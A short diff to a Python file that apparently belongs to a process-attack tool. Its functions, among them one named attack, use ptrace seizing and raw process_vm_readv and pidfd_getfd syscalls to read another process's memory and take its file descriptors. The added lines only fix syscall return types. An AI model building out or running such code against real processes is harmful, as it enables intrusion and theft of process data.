@@ -329,6 +329,7 @@ def attack(targets: dict[str, Any]) -> dict[str, str]:
     import socket
 
     libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long  # an address may be above 2**31
 
     def trace(process: int) -> None:
         if libc.ptrace(0x4206, process, None, None) != 0:  # PTRACE_SEIZE
@@ -473,6 +474,7 @@ def kernel_objects() -> Iterator[dict[str, Any]]:
     numbers = {name: rule.numbers[found[0]] for name, rule in RULES.items()}
     numbers |= {"process_vm_readv": (310, 270)[found[0]], "pidfd_getfd": 438}
     libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long  # an address may be above 2**31
 
     def call(name: str, *arguments: object) -> int:
         values = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
